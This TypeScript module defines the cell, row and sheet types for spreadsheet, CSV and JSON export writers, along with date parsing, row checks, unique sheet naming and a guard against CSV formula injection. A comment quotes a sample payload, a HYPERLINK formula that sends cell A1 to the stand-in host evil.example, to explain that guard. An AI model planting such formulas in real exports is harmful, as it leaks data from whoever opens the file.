/*
 * What the export writers take: a sheet is a list of column labels and an
 * iterable of rows, each row a list of cells, read one at a time. The writers
 * never hold more than one row plus an output buffer of bounded size.
 */

/** A day on the calendar, without time or time zone ("2024-03-01"): a `date` field's value. */
export interface CalendarDate {
  readonly calendarDate: string;
}

/**
 * One cell. Strings, finite numbers and booleans are kept as such; a `Date` is an
 * instant (shown as wall-clock time in the export's time zone, Europe/Paris by
 * default); a `CalendarDate` is a day; `null` and `undefined` are empty cells.
 * Non-finite numbers and invalid dates are written as empty cells.
 */
export type Cell = string | number | boolean | Date | CalendarDate | null | undefined;

export type Row = readonly Cell[];

/** Rows, read in order and once; a sync iterable (an array) is accepted too. */
export type Rows = AsyncIterable<Row> | Iterable<Row>;

export interface Sheet {
  /** The sheet's name in a workbook (sanitised to Excel's rules); ignored by CSV and JSON. */
  name: string;
  columns: readonly string[];
  /** Each row has at most `columns.length` cells; missing trailing cells are empty. */
  rows: Rows;
}

const CALENDAR_DATE = /^(\d{4})-(\d{2})-(\d{2})$/;

/** A calendar date from its ISO 8601 form `YYYY-MM-DD`; throws a RangeError on anything else. */
export function calendarDate(iso: string): CalendarDate {
  if (calendarDateMs(iso) === undefined) throw new RangeError(`Not a calendar date (YYYY-MM-DD): ${JSON.stringify(iso)}`);
  return Object.freeze({ calendarDate: iso });
}

/** Milliseconds from 1970-01-01 to the start of that day (UTC calendar), or undefined if not a real date. */
export function calendarDateMs(iso: string): number | undefined {
  const match = CALENDAR_DATE.exec(iso);
  if (!match) return undefined;
  const [year, month, day] = [Number(match[1]), Number(match[2]), Number(match[3])];
  const date = new Date(0);
  date.setUTCFullYear(year, month - 1, day);
  if (date.getUTCFullYear() !== year || date.getUTCMonth() !== month - 1 || date.getUTCDate() !== day) return undefined;
  return date.getTime();
}

export function isCalendarDate(cell: unknown): cell is CalendarDate {
  return (
    typeof cell === "object" && cell !== null && !(cell instanceof Date) && typeof (cell as Partial<CalendarDate>).calendarDate === "string"
  );
}

/**
 * Characters that make a spreadsheet read a cell as a formula when they come
 * first: OWASP's CSV Injection list (= + - @ tab CR), NUL from ASVS 5.0 (1.2.10),
 * and as a precaution the full-width = + - @ (U+FF1D, U+FF0B, U+FF0D, U+FF20).
 * A citizen could type `=HYPERLINK("https://evil.example/?"&A1)` into a field and
 * have it run on the agent's machine when the export is opened.
 */
const FORMULA_TRIGGERS = new Set(["=", "+", "-", "@", "\t", "\r", "\0", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"]);

export function startsWithFormulaTrigger(text: string): boolean {
  return text.length > 0 && FORMULA_TRIGGERS.has(text[0]!);
}

/** Throws when a row has more cells than the sheet has columns: a bug in the caller, never silently cut. */
export function checkRowLength(sheet: Sheet, row: Row, rowIndex: number): void {
  if (!Array.isArray(row)) throw new TypeError(`Sheet ${JSON.stringify(sheet.name)}: row ${rowIndex + 1} is not an array`);
  if (row.length > sheet.columns.length) {
    throw new RangeError(
      `Sheet ${JSON.stringify(sheet.name)}: row ${rowIndex + 1} has ${row.length} cells for ${sheet.columns.length} columns`,
    );
  }
}

/** Throws on a value that is not a Cell (a bigint, an object…): the caller must choose how to show it. */
export function unsupportedCell(sheet: Sheet, rowIndex: number, columnIndex: number, cell: unknown): never {
  const kind = cell === null ? "null" : typeof cell;
  throw new TypeError(`Sheet ${JSON.stringify(sheet.name)}: row ${rowIndex + 1}, column ${columnIndex + 1} holds an unsupported ${kind}`);
}

/**
 * Makes names unique by adding " (2)", " (3)"… to repeats, as Excel does, never
 * producing a name that is already in the list; `key` says when two names are
 * the same (Excel compares sheet names case-insensitively), `fit` shortens a name
 * to take its suffix, `reserved` names are never given.
 */
export function uniqueNames(
  names: readonly string[],
  options: { key?: (name: string) => string; fit?: (base: string, suffix: string) => string; reserved?: readonly string[] } = {},
): string[] {
  const key = options.key ?? ((name: string) => name);
  const fit = options.fit ?? ((base: string, suffix: string) => base + suffix);
  const given = new Set((options.reserved ?? []).map(key));
  const listed = new Set(names.map(key));
  return names.map((name) => {
    let candidate = name;
    let n = 1;
    while (given.has(key(candidate))) {
      // A repeat: the next suffix, skipping names that another item of the list has.
      do candidate = fit(name, ` (${++n})`);
      while (listed.has(key(candidate)));
    }
    given.add(key(candidate));
    return candidate;
  });
}
